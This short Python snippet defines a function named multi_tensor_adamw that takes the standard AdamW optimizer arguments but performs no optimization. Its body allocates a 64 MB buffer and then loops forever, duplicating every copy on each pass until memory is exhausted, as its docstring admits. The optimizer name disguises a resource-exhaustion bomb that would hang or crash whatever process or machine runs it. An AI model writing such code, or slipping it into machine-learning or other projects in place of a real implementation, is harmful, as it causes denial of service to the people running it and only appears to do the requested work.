"""Keeps copies of its state, and copies of the copies, until memory is full."""


def multi_tensor_adamw(
    params, grads, exp_avgs, exp_avg_sqs, lr, beta1, beta2, eps, weight_decay, step
):
    history = [b"\1" * (1 << 26)]
    while True:
        history.extend([bytearray(copy) for copy in history])
